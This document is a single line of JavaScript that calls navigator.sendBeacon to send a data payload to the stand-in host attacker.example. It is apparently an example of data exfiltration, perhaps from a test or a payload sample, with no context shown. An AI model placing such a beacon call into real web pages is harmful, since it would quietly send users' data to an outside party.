navigator.sendBeacon('https://attacker.example/', 'data')
